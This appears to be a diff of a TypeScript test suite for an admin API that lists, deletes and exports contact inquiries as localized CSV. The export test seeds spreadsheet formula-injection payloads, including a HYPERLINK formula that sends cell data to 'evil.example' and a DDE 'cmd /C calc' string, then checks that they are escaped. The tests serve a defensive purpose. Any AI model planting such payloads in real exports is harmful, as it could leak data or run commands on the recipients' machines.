@@ -27,7 +27,7 @@ interface Seed extends Partial<InquiryValues> {
 }
 
 /** Stores an inquiry through the real write path (with consent and two owed e-mails), then dates it. */
-async function seed({ daysAfter, locale = 'ko', status, spam, ...values }: Seed & { spam?: 'too-fast' | 'honeypot' }): Promise<{ id: number; reference: string }> {
+async function seed({ daysAfter, locale = 'ko', status, spam, ...values }: Seed & { spam?: 'too-fast' | 'honeypot' }): Promise<{ id: number; reference: string; publicRef: string }> {
   const stored = await storeInquiry(db, {
     reference: crypto.randomUUID(),
     inquiry: {
@@ -42,7 +42,7 @@ async function seed({ daysAfter, locale = 'ko', status, spam, ...values }: Seed 
   await db.updateTable('contact_inquiries').set({ created_at: new Date(base.getTime() + daysAfter * DAY) } as never).where('id', '=', stored.id).execute();
   if (status) await db.updateTable('contact_inquiries').set({ status }).where('id', '=', stored.id).execute();
   if (locale === null) await db.deleteFrom('inquiry_consents').where('inquiry_id', '=', stored.id).execute();
-  return { id: stored.id, reference: stored.reference };
+  return { id: stored.id, reference: stored.reference, publicRef: stored.publicRef };
 }
 
 /** A signed-in call; `params` as Netlify derives them from the function's `config.path`. */
@@ -132,7 +132,7 @@ describe('GET /api/admin/contacts', () => {
     expect(body.map((inquiry) => inquiry['id'])).toEqual([newer.id, middle.id, older.id]);
     expect(body[2]).toEqual({
       id: older.id,
-      reference: older.reference,
+      reference: older.publicRef,
       name: '김민수',
       company: '한빛상사',
       email: 'minsu.kim@example.com',
@@ -324,7 +324,7 @@ describe('DELETE /api/admin/contacts/:id', () => {
     const audit = await auditRows();
     expect(audit).toHaveLength(1);
     expect(audit[0]).toMatchObject({ action: 'delete', entity: 'inquiry', entity_id: String(gone.id), username: 'manager', admin_id: admin.id });
-    expect(audit[0]?.summary).toContain(gone.reference);
+    expect(audit[0]?.summary).toContain(gone.publicRef);
     for (const personal of ['홍길동', '율도국무역', 'gildong', '010-9999-0000']) expect(JSON.stringify(audit)).not.toContain(personal);
 
     expect((await erase(gone.id)).status).toBe(404);
@@ -466,15 +466,22 @@ describe('GET /api/admin/contacts/export', () => {
     expect(text.replace(/\r\n/g, '').includes('\r')).toBe(false);
     const records = text.slice(1).split('\r\n');
     expect(records.at(-1)).toBe('');
-    expect(records[0]).toBe('id,reference,received,status,name,company,email,phone,service,budget,message,locale');
-    expect(records[1]).toBe(`${second.id},${second.reference},${new Date(base.getTime() + DAY).toISOString()},done,山田太郎,한빛상사,minsu.kim@example.com,'+62 812 3456 7890,visa,k50to100,,`);
+    // Labels in the administrator's language (Korean until My account says otherwise), Jakarta time with its offset.
+    expect(records[0]).toBe('접수번호,접수일,처리 상태,이름,회사명,이메일,연락처,관심 서비스,예산,문의 내용,문의 언어');
+    expect(records[1]).toBe(`${second.publicRef},2026-11-02 16:00 (UTC+07:00),완료,山田太郎,한빛상사,minsu.kim@example.com,'+62 812 3456 7890,비자·체류 허가,USD 50K–100K,,`);
     expect(records.slice(2, -1).join('\r\n')).toBe(
-      `${first.id},${first.reference},${base.toISOString()},new,"'=HYPERLINK(""http://evil.example/?""&A1,""클릭"")",'+cmd|' /C calc'!A0,` +
-        `'@SUM(1+1)@example.com,'-2+3,licensing,,"첫 줄, ""인용""\n둘째 줄\t탭",ko`,
+      `${first.publicRef},2026-11-01 16:00 (UTC+07:00),신규,"'=HYPERLINK(""http://evil.example/?""&A1,""클릭"")",'+cmd|' /C calc'!A0,` +
+        `'@SUM(1+1)@example.com,'-2+3,법인 설립 및 인허가,,"첫 줄, ""인용""\n둘째 줄\t탭",한국어`,
     );
 
     const audit = await auditRows();
     expect(audit).toEqual([{ admin_id: admin.id, username: 'manager', action: 'export', entity: 'inquiry', entity_id: null, summary: 'CSV: 2 rows; no filter', ip: TEST_IP }]);
+
+    // In English and Seoul time once the administrator chooses them.
+    await db.updateTable('admins').set({ locale: 'en', time_zone: 'Asia/Seoul' }).where('id', '=', admin.id).execute();
+    const english = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await exportCsv()).arrayBuffer()).split('\r\n');
+    expect(english[0]).toBe('\uFEFFReference,Received,Status,Name,Company,E-mail,Phone,Service,Budget,Message,Language');
+    expect(english[1]).toContain(`${second.publicRef},2026-11-02 18:00 (UTC+09:00),Done,山田太郎,`);
   });
 
   it('applies the same filters as the list and logs which were used, but not the search text', async () => {
@@ -486,7 +493,7 @@ describe('GET /api/admin/contacts/export', () => {
     expect(response.status).toBe(200);
     const records = (await response.text()).split('\r\n');
     expect(records).toHaveLength(3);
-    expect(records[1]?.startsWith(`${match.id},`)).toBe(true);
+    expect(records[1]?.startsWith(`${match.publicRef},`)).toBe(true);
 
     const [entry] = await auditRows();
     expect(entry?.summary).toBe('CSV: 1 row; status=new, service=visa, search');
@@ -504,15 +511,16 @@ describe('GET /api/admin/contacts/export', () => {
   it('stops at a whole record within the size budget, says so, and logs the rows actually written', async () => {
     const older = await seed({ daysAfter: 0 });
     const newer = await seed({ daysAfter: 1 });
-    const whole = await exportInquiries(db, { admin, ip: TEST_IP }, {});
+    const reader = { locale: 'ko', timeZone: null } as const;
+    const whole = await exportInquiries(db, { admin, ip: TEST_IP }, {}, reader);
     expect(whole.truncated).toBe(false);
     const lastRecord = whole.csv.split('\r\n').at(-2)!;
-    expect(lastRecord.startsWith(`${older.id},`)).toBe(true);
+    expect(lastRecord.startsWith(`${older.publicRef},`)).toBe(true);
 
-    const cut = await exportInquiries(db, { admin, ip: TEST_IP }, {}, Buffer.byteLength(whole.csv) - 1);
+    const cut = await exportInquiries(db, { admin, ip: TEST_IP }, {}, reader, Buffer.byteLength(whole.csv) - 1);
     expect(cut.truncated).toBe(true);
     expect(cut.csv).toBe(whole.csv.slice(0, whole.csv.length - lastRecord.length - 2));
-    expect(cut.csv.split('\r\n')[1]?.startsWith(`${newer.id},`)).toBe(true);
+    expect(cut.csv.split('\r\n')[1]?.startsWith(`${newer.publicRef},`)).toBe(true);
     expect((await auditRows()).map((row) => row.summary)).toEqual(['CSV: 2 rows; no filter', 'CSV: 1 row (limit reached); no filter']);
   });
 
